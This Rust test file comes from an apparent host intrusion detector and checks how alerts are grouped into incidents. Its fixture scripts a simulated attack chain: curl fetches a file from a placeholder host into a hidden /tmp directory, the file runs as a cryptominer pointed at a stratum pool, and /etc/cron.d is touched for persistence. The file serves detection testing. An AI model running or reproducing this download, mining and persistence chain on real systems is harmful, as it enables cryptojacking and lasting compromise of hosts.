//! One story is one incident, whichever trees it takes place in.

use std::collections::BTreeSet;

use detector::alert::card;
use detector::alert::incident::Incident;
use detector::event::Written;

use super::*;

/// What is stored of alerts of one incident.
fn incident(alerts: Vec<Alert>) -> Incident {
    Incident {
        id: alerts[0].incident.clone(),
        revision: 1,
        host: alerts[0].host.clone(),
        level: alerts.iter().map(|alert| alert.level).max().unwrap(),
        began: alerts[0].time.clone(),
        last: alerts.last().unwrap().time.clone(),
        agent: alerts.iter().find_map(|alert| alert.agent.clone()),
        total: alerts.len() as u64,
        findings: alerts.iter().map(|alert| alert.count).sum(),
        alerts,
        acknowledged: None,
    }
}

fn rome() -> Story {
    let curl = id(1001);
    story()
        .runs("/usr/bin/curl", "curl -fsSL http://files.example/x -o /tmp/.x/a")
        .connects("203.0.113.9:80", 0)
        .touches(FileOp::Open, "/tmp/.x/a", None)
        // Another tool call, hence another tree, runs what the first one fetched.
        .runs_with(
            "/tmp/.x/a",
            &["./a", "-o", "stratum+tcp://pool.example:3333", "--donate-level", "1"],
            |exec| {
                exec.written =
                    Some(Written { time: Nanos(1_700_000_003_000_000_000), by: curl, agent: AgentId(1) });
            },
        )
        .connects("203.0.113.7:3333", 0)
        .touches(FileOp::Open, "/etc/cron.d/job", None)
}

#[test]
fn dropped_executed_connected_and_mined_is_one_incident() {
    let mut alerts = rome().alerts();
    alerts.retain(|alert| alert.count == 1);
    let ids: BTreeSet<&str> = alerts.iter().map(|alert| &*alert.incident).collect();
    assert_eq!(ids.len(), 1, "{alerts:#?}");
    let card = card::incident(&incident(alerts), &[]);
    expect![[r#"
        Command Line of a Miner (and 5 more)
        coder ran /tmp/.x/a, which it had from 203.0.113.9:80 and changed /etc/cron.d/job.
    "#]]
    .assert_eq(&format!("{}\n{}\n", card.title, card.sentence));
}

#[test]
fn what_has_nothing_to_do_with_it_is_another() {
    let alerts = rome()
        .runs("/opt/bin/xmrig", "xmrig --version")
        .event(EventKind::Lost(Lost { what: "exec".into(), count: 12 }))
        .alerts();
    let ids: BTreeSet<&str> = alerts.iter().map(|alert| &*alert.incident).collect();
    assert_eq!(ids.len(), 3, "{alerts:#?}");
}
